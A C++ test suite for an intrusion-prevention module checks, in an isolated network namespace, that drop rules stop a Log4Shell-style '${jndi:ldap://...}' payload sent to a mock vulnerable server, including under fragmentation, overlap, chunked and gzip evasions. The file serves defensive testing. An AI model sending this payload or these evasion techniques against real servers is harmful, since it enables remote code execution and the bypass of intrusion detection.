// Intrusion prevention on a real kernel: the module with its engine in a network namespace of the test's own, a small
// web server that can be exploited, and a client that decides itself how its packets look.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <poll.h>
#include <sched.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zlib.h>

#include <array>
#include <atomic>
#include <boost/json.hpp>
#include <charconv>
#include <csignal>
#include <cstdlib>
#include <functional>
#include <mutex>
#include <optional>
#include <thread>

#include "agent/module_ips.h"
#include "agent/testing.h"
#include "base/json.h"
#include "host/linux/clock.h"
#include "tun_wire.h"

namespace warder::agent {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;

constexpr std::uint16_t kPort = 8080;
/// The hole: whoever can make the server read this owns it.
constexpr std::string_view kExploit = "${jndi:ldap://192.0.2.9/a}";
constexpr std::string_view kUriRule =
    R"(drop http any any -> any any (msg:\"exploit in the URI\"; http.uri; content:\"${jndi:\"; nocase; sid:1; rev:1;))";
constexpr std::string_view kBodyRule =
    R"(drop http any any -> any any (msg:\"exploit in a body\"; http.request_body; content:\"${jndi:\"; nocase; sid:2; rev:1;))";

std::string unzipped(std::string_view body) {
  z_stream stream{};
  if (inflateInit2(&stream, 32 + MAX_WBITS) != Z_OK) return {};
  std::string copy(body);
  std::string out(1 << 16, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(copy.data());
  stream.avail_in = static_cast<uInt>(copy.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  inflate(&stream, Z_FINISH);
  out.resize(out.size() - stream.avail_out);
  inflateEnd(&stream);
  return out;
}

std::string zipped(std::string_view body) {
  z_stream stream{};
  if (deflateInit2(&stream, 9, Z_DEFLATED, 16 + MAX_WBITS, 8, Z_DEFAULT_STRATEGY) != Z_OK) return {};
  std::string copy(body);
  std::string out(body.size() + 100, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(copy.data());
  stream.avail_in = static_cast<uInt>(copy.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(out.size() - stream.avail_out);
  deflateEnd(&stream);
  return out;
}

std::string in_chunks(std::string_view body, std::size_t size) {
  std::string out;
  for (std::size_t at = 0; at < body.size(); at += size) {
    const auto part = body.substr(at, size);
    std::array<char, 16> length{};
    const auto end = std::to_chars(length.data(), length.data() + length.size(), part.size(), 16).ptr;
    out.append(length.data(), end).append("\r\n").append(part).append("\r\n");
  }
  return out + "0\r\n\r\n";
}

/// A web server with a hole: it looks up what is in the URI or, unpacked, in the body.
class VulnerableServer {
 public:
  VulnerableServer() : listener_(::socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
    const int one = 1;
    ::setsockopt(listener_.get(), SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    sockaddr_in6 any{};
    any.sin6_family = AF_INET6;
    any.sin6_addr = in6addr_any;
    any.sin6_port = htons(kPort);
    if (::bind(listener_.get(), reinterpret_cast<const sockaddr*>(&any), sizeof any) != 0) std::abort();
    ::listen(listener_.get(), 256);
    // Whoever's attack was stopped holds a thread until its patience ends: with few of them the others wait as well.
    for (int i = 0; i < 24; ++i) threads_.emplace_back([this](const std::stop_token& stop) { serve(stop); });
  }
  std::atomic<int> owned{0};

 private:
  void serve(const std::stop_token& stop) {
    while (!stop.stop_requested()) {
      pollfd polled{listener_.get(), POLLIN, 0};
      if (::poll(&polled, 1, 20) <= 0) continue;
      const UniqueFd peer(::accept4(listener_.get(), nullptr, nullptr, SOCK_CLOEXEC));
      if (!peer.is_open()) continue;
      const timeval patience{1, 0};
      ::setsockopt(peer.get(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
      answer(peer);
    }
  }

  void answer(const UniqueFd& peer) {
    std::string request;
    std::array<char, 8192> buffer{};
    while (!is_whole(request)) {
      const ssize_t got = ::recv(peer.get(), buffer.data(), buffer.size(), 0);
      if (got <= 0) return;
      request.append(buffer.data(), static_cast<std::size_t>(got));
    }
    const bool is_owned = understood(request).find("${jndi:") != std::string::npos;
    if (is_owned) ++owned;
    const std::string text = std::string("HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\n") +
                             (is_owned ? "owned" : "fine!");
    ::send(peer.get(), text.data(), text.size(), MSG_NOSIGNAL);
  }

  static std::size_t body_at(const std::string& request) {
    const auto end = request.find("\r\n\r\n");
    return end == std::string::npos ? std::string::npos : end + 4;
  }
  static bool is_whole(const std::string& request) {
    const auto body = body_at(request);
    if (body == std::string::npos) return false;
    if (request.find("chunked") < body) return request.ends_with("0\r\n\r\n");
    const auto length = request.find("Content-Length: ");
    if (length > body) return true;
    return request.size() - body >= std::strtoul(request.c_str() + length + 16, nullptr, 10);
  }
  static std::string understood(const std::string& request) {
    const auto at = body_at(request);
    std::string body = request.substr(at);
    if (request.find("chunked") < at) {
      std::string joined;
      for (std::size_t i = 0; i < body.size();) {
        const auto size = std::strtoul(body.c_str() + i, nullptr, 16);
        const auto start = body.find("\r\n", i) + 2;
        joined += body.substr(start, size);
        i = start + size + 2;
        if (size == 0) break;
      }
      body = joined;
    }
    if (request.find("gzip") < at) body = unzipped(body);
    return request.substr(0, at) + body;
  }

  UniqueFd listener_;
  std::vector<std::jthread> threads_;
};

class Events final : public EventSink {
 public:
  Result<void> emit(std::span<const Event> events) override {
    const std::lock_guard lock(mutex_);
    for (const Event& event : events) {
      if (event.type == "ips.rule.blocked") ++blocked;
      if (event.type == "ips.rule.matched") ++matched;
    }
    return {};
  }
  std::atomic<int> blocked{0};
  std::atomic<int> matched{0};

 private:
  std::mutex mutex_;
};

bool wait_until(const std::function<bool()>& holds, seconds patience = seconds(20)) {
  const auto until = std::chrono::steady_clock::now() + patience;
  while (!holds()) {
    if (std::chrono::steady_clock::now() > until) return false;
    ::poll(nullptr, 0, 5);
  }
  return true;
}

std::string section(std::string_view mode, std::string_view rules, std::string_view more = "") {
  return R"({"mode": ")" + std::string(mode) + R"(", "queues": 2, "budget_ms": 5000, "fold_s": 0, "rules": [)" +
         std::string(rules) + "]" + std::string(more) + "}";
}
std::string both_rules() {
  return "\"" + std::string(kUriRule) + "\", \"" + std::string(kBodyRule) + "\"";
}

/// The module at work in this process.
class Running {
 public:
  explicit Running(const std::string& policy) {
    module_ = ips_module().make(context_);
    configure(policy);
    thread_ = std::jthread([this](const std::stop_token& stop) {
      if (const auto done = module_->run(stop); !done) std::fprintf(stderr, "%s\n", done.error().message.c_str());
    });
    EXPECT_TRUE(wait_until([this] { return module_->status().condition == ModuleCondition::On; }))
        << module_->status().reason;
  }
  void configure(const std::string& policy) {
    const auto done = module_->configure(parse_json(policy)->as_object());
    ASSERT_TRUE(done) << done.error().message;
  }
  [[nodiscard]] Module& module() { return *module_; }
  Events events;

 private:
  testing::Directory directory_;
  testing::QuietLog log_;
  host::SystemClock clock_;
  ModuleContext context_{events, log_, clock_, directory_.path()};
  std::unique_ptr<Module> module_;
  std::jthread thread_;
};

/// A request over the kernel's own TCP; what came back, empty when nothing.
std::string ask(const std::string& request, milliseconds patience = milliseconds(3000)) {
  const UniqueFd client(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  const timeval limit{patience.count() / 1000, patience.count() % 1000 * 1000};
  ::setsockopt(client.get(), SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  ::setsockopt(client.get(), SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(kPort);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(client.get(), reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) return {};
  ::send(client.get(), request.data(), request.size(), MSG_NOSIGNAL);
  std::array<char, 512> buffer{};
  const ssize_t got = ::recv(client.get(), buffer.data(), buffer.size(), 0);
  return got <= 0 ? std::string() : std::string(buffer.data(), static_cast<std::size_t>(got));
}

std::string get(std::string_view target) {
  return "GET " + std::string(target) + " HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
}
std::string post(std::string_view body, std::string_view headers = "") {
  const std::string length = headers.find("chunked") == std::string_view::npos
                                 ? "Content-Length: " + std::to_string(body.size()) + "\r\n"
                                 : std::string();
  return "POST /form HTTP/1.1\r\nHost: www.example.com\r\n" + length + std::string(headers) + "\r\n" +
         std::string(body);
}

class IpsOnKernel : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0 || ::unshare(CLONE_NEWNET) != 0) return;
    if (std::system("ip link set lo up") != 0) return;  // NOLINT: fixed words, before there are threads
    auto wire = wire::TunWire::open();
    if (wire) wire_.emplace(std::move(*wire));
  }
  static void TearDownTestSuite() { wire_.reset(); }
  void SetUp() override {
    if (!wire_) GTEST_SKIP() << "needs root for a network namespace and /dev/net/tun";
  }

  using Send = std::function<void(wire::TunClient&, const std::string& request)>;
  std::string tell(const std::string& request, bool is_v6 = false, const Send& send = whole) {
    wire::TunClient client(*wire_, ++port_, kPort, is_v6);
    if (!client.connect()) return "no connection";
    send(client, request);
    return client.answer(milliseconds(1500));
  }
  static void whole(wire::TunClient& client, const std::string& request) { client.segment(0, request); }

  static inline std::optional<wire::TunWire> wire_;
  static inline std::uint16_t port_ = 30'000;
};

bool is_fine(const std::string& answer) {
  return answer.ends_with("fine!");
}

TEST_F(IpsOnKernel, PreventStopsDetectLogsOffPasses) {
  for (const bool is_v6 : {false, true}) {
    SCOPED_TRACE(is_v6 ? "IPv6" : "IPv4");
    VulnerableServer server;
    {
      Running running(section("prevent", both_rules()));
      EXPECT_TRUE(is_fine(tell(get("/harmless"), is_v6)));
      EXPECT_EQ(tell(get("/" + std::string(kExploit)), is_v6), "");
      EXPECT_EQ(server.owned, 0);
      EXPECT_TRUE(wait_until([&] { return running.events.blocked == 1; }));
    }
    {
      Running running(section("detect", both_rules()));
      EXPECT_TRUE(tell(get("/" + std::string(kExploit)), is_v6).ends_with("owned"));
      EXPECT_TRUE(wait_until([&] { return running.events.matched == 1; }));
      EXPECT_EQ(running.events.blocked, 0);
    }
    {
      Running running(section("prevent", both_rules(), R"(, "rule_modes": ["1 off"])"));
      EXPECT_TRUE(tell(get("/" + std::string(kExploit)), is_v6).ends_with("owned"));
      EXPECT_EQ(tell(post(kExploit), is_v6), "") << "the other rule stays";
      EXPECT_EQ(running.events.matched, 0);
    }
    EXPECT_EQ(server.owned, 2);
  }
}

TEST_F(IpsOnKernel, NoDressHidesTheExploit) {
  const struct {
    std::string name;
    std::string request;
    Send send = whole;
  } kCases[] = {
      {"tiny segments", "/",
       [](auto& client, const std::string& text) {
         for (std::size_t i = 0; i < text.size(); ++i) client.segment(i, text.substr(i, 1));
       }},
      {"out of order", "/",
       [](auto& client, const std::string& text) {
         for (std::size_t i = (text.size() - 1) / 7 * 7;; i -= 7) {
           client.segment(i, text.substr(i, 7));
           if (i == 0) break;
         }
       }},
      {"fragments", "/", [](auto& client, const std::string& text) { client.fragments(0, text, 24); }},
      {"overlap, harmless first", "/",
       [](auto& client, const std::string& text) {
         client.segment(5, std::string(text.size() - 9, 'x'));  // waits in the host, the first byte is missing
         client.segment(0, text);
       }},
      {"overlap, exploit first", "/",
       [](auto& client, const std::string& text) {
         client.segment(5, text.substr(5));
         client.segment(0, text.substr(0, 5) + std::string(text.size() - 9, 'x') + "\r\n\r\n");
       }},
      {"a body", post(kExploit)},
      {"chunks of one", post(in_chunks(kExploit, 1), "Transfer-Encoding: chunked\r\n")},
      {"gzip", post(zipped(kExploit), "Content-Encoding: gzip\r\n")},
      {"gzip in chunks, tiny segments",
       post(in_chunks(zipped(kExploit), 5), "Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n"),
       [](auto& client, const std::string& text) {
         for (std::size_t i = 0; i < text.size(); i += 3) client.segment(i, text.substr(i, 3));
       }},
  };
  VulnerableServer server;
  Running running(section("prevent", both_rules()));
  for (const bool is_v6 : {false, true}) {
    for (const auto& c : kCases) {
      SCOPED_TRACE(c.name + (is_v6 ? ", IPv6" : ", IPv4"));
      const bool is_uri = c.request == "/";
      const bool overlaps = c.name.starts_with("overlap");
      const std::string attack = is_uri ? get("/" + std::string(kExploit)) : c.request;
      const std::string answer = tell(attack, is_v6, c.send);
      EXPECT_EQ(answer.find("owned"), std::string::npos) << answer;
      EXPECT_NE(answer, "no connection");
      EXPECT_EQ(server.owned, 0);
      if (!is_uri || overlaps) continue;
      EXPECT_TRUE(is_fine(tell(get("/harmless/" + std::string(20, 'a')), is_v6, c.send)));
    }
  }
  EXPECT_TRUE(is_fine(
      tell(post(in_chunks(zipped("harmless"), 5), "Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n"))));
}

TEST_F(IpsOnKernel, TrafficGoesOnWhileRulesAreSwapped) {
  VulnerableServer server;
  const std::string on_loopback = R"(, "inspect_loopback": true, "inspect_output": false)";
  Running running(section("prevent", both_rules(), on_loopback));
  std::atomic<int> unanswered{0};
  std::atomic<int> answered{0};
  std::atomic<int> passed{0};
  std::vector<std::jthread> clients;
  for (int i = 0; i < 2; ++i) {
    clients.emplace_back([&](const std::stop_token& stop) {
      for (int n = 0; !stop.stop_requested(); ++n) {
        const bool is_attack = n % 8 == 7;
        const auto answer = is_attack ? ask(get("/" + std::string(kExploit)), milliseconds(300)) : ask(get("/page"));
        if (is_attack) {
          if (!answer.empty()) ++passed;
        } else {
          ++(is_fine(answer) ? answered : unanswered);
        }
      }
    });
  }
  for (int i = 0; i < 30; ++i) {
    const int before = answered;
    const std::string other = R"(, "alert tcp any any -> any any (content:\"nothing )" + std::to_string(i) +
                              R"(\"; sid:)" + std::to_string(100 + i) + ";)\"";
    running.configure(section("prevent", both_rules() + other, on_loopback));
    ASSERT_TRUE(wait_until([&] { return answered >= before + 3; })) << "traffic stands still at swap " << i;
  }
  clients.clear();
  EXPECT_EQ(unanswered, 0);
  EXPECT_EQ(passed, 0);
  EXPECT_EQ(server.owned, 0);
  EXPECT_GE(answered, 90);
}

/// The module in a process of its own, to be killed.
pid_t start_worker(const std::filesystem::path& state, const std::string& policy, int ready) {
  const pid_t child = ::fork();
  if (child != 0) return child;
  ::prctl(PR_SET_PDEATHSIG, SIGKILL);
  Events events;
  testing::QuietLog log;
  const host::SystemClock clock;
  ModuleContext context{events, log, clock, state};
  const auto module = ips_module().make(context);
  if (!module->configure(parse_json(policy)->as_object())) ::_exit(2);
  std::jthread runner([&](const std::stop_token& stop) { static_cast<void>(module->run(stop)); });
  const bool is_on = wait_until([&] { return module->status().condition == ModuleCondition::On; });
  const char answer = is_on ? '1' : '0';
  [[maybe_unused]] const ssize_t written = ::write(ready, &answer, 1);
  while (true) ::pause();
}

TEST_F(IpsOnKernel, AKilledWorkerLeavesTrafficAsThePolicySays) {
  const char* const is_long = std::getenv("WARDER_LONG");  // NOLINT(concurrency-mt-unsafe)
  const int rounds = is_long != nullptr && std::string_view(is_long) == "1" ? 200 : 50;
  VulnerableServer server;
  const testing::Directory state;
  for (const std::string on_failure : {"pass", "block"}) {
    SCOPED_TRACE(on_failure);
    const bool passes = on_failure == "pass";
    const std::string policy =
        section("prevent", both_rules(),
                R"(, "inspect_loopback": true, "inspect_output": false, "on_failure": ")" + on_failure + "\"");
    std::atomic<bool> has_load{true};
    std::atomic<int> answered{0};
    std::jthread load([&](const std::stop_token& stop) {
      while (!stop.stop_requested()) {
        if (has_load && is_fine(ask(get("/load"), milliseconds(passes ? 5000 : 400)))) ++answered;
        if (!has_load) ::poll(nullptr, 0, 1);
      }
    });
    for (int i = 0; i < (passes ? rounds : rounds / 10); ++i) {
      std::array<int, 2> ready{};
      ASSERT_EQ(::pipe2(ready.data(), O_CLOEXEC), 0);
      const pid_t child = start_worker(state.path(), policy, ready[1]);
      char answer = 0;
      ASSERT_EQ(::read(ready[0], &answer, 1), 1);
      ASSERT_EQ(answer, '1') << "round " << i;
      ::close(ready[0]);
      ::close(ready[1]);
      const int before = answered;
      ASSERT_TRUE(wait_until([&] { return answered > before; })) << "inspected traffic stands still";
      EXPECT_EQ(ask(get("/" + std::string(kExploit)), milliseconds(200)), "");
      ::kill(child, SIGKILL);
      ::waitpid(child, nullptr, 0);
      if (passes) {
        EXPECT_TRUE(is_fine(ask(get("/after"), milliseconds(5000)))) << "round " << i;
      } else {
        EXPECT_EQ(ask(get("/after"), milliseconds(200)), "") << "round " << i;
      }
    }
    load.request_stop();
    load.join();
    if (passes) continue;
    // Off, in a new process: what the dead one left is removed.
    const Running last(section("prevent", both_rules(), R"(, "on_failure": "pass", "inspect_loopback": true)"));
  }
  EXPECT_EQ(server.owned, 0);
  EXPECT_TRUE(is_fine(ask(get("/at-the-end"), milliseconds(5000))));
}

}  // namespace
}  // namespace warder::agent
